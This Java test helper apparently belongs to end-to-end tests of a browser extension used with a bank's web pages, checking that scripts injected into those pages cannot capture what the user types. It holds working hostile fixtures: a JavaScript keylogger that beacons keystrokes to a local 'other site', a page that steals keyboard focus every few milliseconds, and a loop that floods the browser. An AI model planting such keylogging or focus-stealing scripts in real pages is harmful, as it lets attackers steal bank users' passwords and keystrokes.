package jp.inkan.e2e.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import jp.inkan.e2e.bank.fault.Fault;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.openqa.selenium.JavascriptExecutor;

/** Pages of the bank's into which somebody has put a script that listens, and another site that helps it. */
abstract class OtherSites extends AtTheBank {
    static final String SECRET = "kagi-No-4711";

    /** Tells the other site what it hears. */
    private static final String LISTEN = """
            for (const type of ['keydown', 'beforeinput', 'input']) for (const target of [window, document])
              target.addEventListener(type, ({key, data}) => navigator.sendBeacon('%s/heard', `${type} ${key ?? data}`), {capture: true});
            """;

    /** By path: what takes the keyboard by itself, over and over; what does nothing; what has a frame in a sandbox, from which to open windows. */
    private static final Map<String, String> PAGES = Map.of(
            "/taker", "<input id=trap><script>setInterval(() => { window.focus(); document.getElementById('trap').focus(); }, 5);"
                    + LISTEN.formatted("") + "</script>",
            "/opener", "<h1>opener</h1>",
            "/sandbox", "<iframe sandbox='allow-scripts allow-same-origin allow-popups allow-forms' src='/opener'></iframe>");

    /** A browser too busy to do anything else for a second or two. */
    static final String FLOOD = "const end = Date.now() + 1500; let n = 0; while (Date.now() < end) document.title = n++;";

    final Queue<String> heard = new ConcurrentLinkedQueue<>();
    private HttpServer elsewhere;

    @BeforeEach
    void openOtherSite() throws IOException {
        elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        PAGES.forEach((path, html) -> elsewhere.createContext(path, exchange -> {
            byte[] page = html.getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
            exchange.sendResponseHeaders(200, page.length);
            exchange.getResponseBody().write(page);
            exchange.close();
        }));
        elsewhere.createContext("/heard", exchange -> {
            heard.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        elsewhere.start();
    }

    @AfterEach
    void closeOtherSite() {
        elsewhere.stop(0);
    }

    /** An address of another site. @param path /taker, /opener or /sandbox */
    String elsewhere(String path) {
        return "http://127.0.0.1:" + elsewhere.getAddress().getPort() + path;
    }

    /** For a page of the bank's. */
    String listener() {
        return "<input id=field><script>" + LISTEN.formatted(elsewhere("")) + "</script>";
    }

    /** That a listener of {@link #listener()} is heard is shown by what a key in the page does. */
    void assertHears(BankBrowser browser) {
        new Typist(browser).type(bank.url().toString(), "x");
        browser.until(_ -> heard.contains("keydown x"));
        heard.clear();
    }

    void assertNothingHeard() {
        assertThat(List.copyOf(heard)).isEmpty();
    }

    void answerWith(String attack) {
        String script = attack.replace("FLOOD", FLOOD).replace("TAKER", "'" + elsewhere("/taker") + "'");
        bank.answerNext("/certificate", new Fault.Page(Map.of(), HostilePages.BSMS001 + listener() + "<script>" + script + "</script>"));
    }

    void openWith(BankBrowser browser, String attack) {
        answerWith(attack);
        browser.open(bank.url().resolve("/certificate").toString());
    }

    /** Presses our button, as somebody who doesn't look where the page has the focus. */
    static void press(BankBrowser browser) {
        browser.worker().evaluate("globalThis.unloaded = 0;"
                + "chrome.tabs.onUpdated.addListener((_, {discarded}) => { if (discarded) unloaded += 1; })");
        String page = browser.driver().getCurrentUrl();
        ((JavascriptExecutor) browser.driver()).executeScript("arguments[0].focus()", browser.launchButton());
        new Typist(browser).press(page, Typist.ENTER);
    }

    /** As the user does, by its tab. */
    static void goToPage(BankBrowser browser) {
        browser.worker().evaluate("chrome.tabs.query({url: 'https://*.bizsol.anser.ne.jp/*'})"
                + ".then(([tab]) => chrome.tabs.update(tab.id, {active: true})).then(() => true)");
    }

    /** How many tabs aren't unloaded. */
    static int alive(BankBrowser browser) {
        return browser.worker().evaluate("chrome.tabs.query({discarded: false}).then(({length}) => length)").asInt();
    }

    static Object run(BankBrowser browser, String script) {
        return ((JavascriptExecutor) browser.driver()).executeScript(script);
    }

    /** Opens a window from the page that the driver looks at, and looks there. */
    static void openWindow(BankBrowser browser, String url) {
        run(browser, "window.opened = open('" + url + "')");
        browser.until(d -> d.getWindowHandles().stream().anyMatch(handle -> d.switchTo().window(handle).getCurrentUrl().equals(url)));
    }

    static boolean isInFront(BankBrowser browser) {
        return browser.worker().evaluate("chrome.tabs.query({active: true, url: chrome.runtime.getURL('*')}).then((tabs) => tabs.length === 1)")
                .asBoolean();
    }
}
